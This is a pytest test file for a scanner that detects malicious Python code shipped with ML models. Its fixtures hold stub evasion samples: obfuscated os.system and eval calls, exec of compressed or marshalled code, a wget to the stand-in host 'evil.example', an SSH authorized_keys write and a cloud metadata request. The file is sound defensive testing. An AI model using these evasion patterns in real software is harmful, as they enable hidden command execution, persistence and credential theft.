"""ast analysis of Python source: obfuscation shapes, false alarms on real transformers code, bad input."""
from __future__ import annotations

import glob
import os

import pytest
import transformers
from hf_fixtures import rule_ids, scan_dir, threats, write

from modelshield.scanner.blob import FileBlob
from modelshield.scanner.context import ScanContext
from modelshield.scanner.findings import Artefact, Kind, Severity
from modelshield.scanner.analysis import python as python_code
from modelshield.scanner.formats import python_file as python_source
from modelshield.scanner.policy import Policy
from modelshield.scanner.rules import load_rules

EVASIONS = {
    "getattr_import.py": ("getattr(__import__('o' + 's'), 'system')('id')\n", "MS-PY-001", "os.system"),
    "sys_modules.py": ("import sys\nsys.modules['os'].popen('id')\n", "MS-PY-001", "os.popen"),
    "zlib_exec.py": ("import zlib as z\nexec(z.decompress(b'x'))\n", "MS-PY-003", "builtins.exec"),
    "reversed.py": ("eval(')(dir'[::-1])\n", "MS-PY-003", "builtins.eval"),
    "marshal_b64.py": ("import marshal, base64, types\ncode = marshal.loads(base64.b64decode('AA=='))\n"
                       "types.FunctionType(code, {})()\n", "MS-PY-003", "types.FunctionType"),
    "star.py": ("from subprocess import *\ncheck_output(['wget', 'http://evil.example/x'])\n", "MS-PY-001",
                "subprocess.check_output"),
    "alias.py": ("import importlib\nm = importlib.import_module('subprocess')\nm.Popen(['ls'])\n", "MS-PY-001",
                 "subprocess.Popen"),
    "nested_exec.py": ("exec(\"import os\\nos.system('id')\")\n", "MS-PY-001", "os.system"),
    "ssh.py": ("from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('k')\n",
               "MS-PY-007", "Path.write_text"),
    "metadata.py": ("import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')\n", "MS-PY-008",
                    "http://169.254.169.254/latest/meta-data/"),
    "computed.py": ("import os\nname = input()\ngetattr(os, name)('x')\n", "MS-PY-012", "os"),
}


def _analyse(path: str, loaded: bool) -> Artefact:
    art = Artefact(path=os.path.basename(path))
    ctx = ScanContext(artefact=art, policy=Policy.default())
    with FileBlob(path) as blob:
        python_source.analyse(blob, ctx)
    if loaded:
        python_code.promote(art, load_rules(), "test")
    return art


@pytest.mark.parametrize("name", sorted(EVASIONS))
def test_evasions_are_found_when_loaded(tmp_path, name):
    source, rule, callable_ = EVASIONS[name]
    write(tmp_path, {name: source})
    art = _analyse(str(tmp_path / name), loaded=True)
    hits = [f for f in art.findings if f.rule_id == rule and f.kind is Kind.THREAT]
    hit = next((f for f in hits if f.callable == callable_), None)
    assert hit is not None, art.findings
    assert hit.severity >= Severity.HIGH


def test_real_transformers_code_raises_no_threat_even_as_remote_code():
    """False-alarm floor: real modeling/tokenization files, promoted as if auto_map reached them."""
    root = os.path.dirname(transformers.__file__)
    files = sorted(glob.glob(f"{root}/models/*/modeling_*.py"))[::25] + \
        sorted(glob.glob(f"{root}/models/*/tokenization_*.py"))[::10]
    assert len(files) > 20
    flagged = {}
    for path in files:
        art = _analyse(path, loaded=True)
        bad = [(f.rule_id, f.callable, f.location.line) for f in art.findings if f.kind is not Kind.INFO]
        if bad:
            flagged[path] = bad
    assert flagged == {}


def test_syntax_error_and_binary_are_inconclusive(tmp_path):
    write(tmp_path, {"modeling_bad.py": "def broken(:\n", "modeling_nul.py": b"x = 1\x00\n"})
    _, arts = scan_dir(tmp_path)
    for name in ("modeling_bad.py", "modeling_nul.py"):
        assert rule_ids(arts[name]) == {"MS-PY-014"}
        assert arts[name].verdict.value == "inconclusive"
    assert arts["modeling_bad.py"].findings[0].message.endswith("syntax error line 1: invalid syntax.")


def test_shebang_script_and_docstring_urls(tmp_path):
    write(tmp_path, {"run": "#!/usr/bin/env python3\n\"\"\"See http://10.0.0.1/docs\"\"\"\nimport os\n"})
    _, arts = scan_dir(tmp_path)
    assert arts["run"].format == "python_source" and arts["run"].findings == []


def test_observation_is_promoted_with_loaded_severity(tmp_path):
    write(tmp_path, {"m.py": "import ctypes\nctypes.CDLL('libevil.so')\n"})
    art = _analyse(str(tmp_path / "m.py"), loaded=False)
    [obs] = art.findings
    assert obs.rule_id == "MS-PY-100" and obs.kind is Kind.INFO and obs.evidence["loaded_severity"] == "high"
    worst = python_code.promote(art, load_rules(), "config.json auto_map AutoModel")
    assert worst is Severity.HIGH
    [f] = art.findings
    assert f.rule_id == "MS-PY-005" and f.kind is Kind.THREAT and f.location.line == 2
    assert f.evidence["reached_by"] == "config.json auto_map AutoModel"
    assert not threats(_analyse(str(tmp_path / "m.py"), loaded=False))
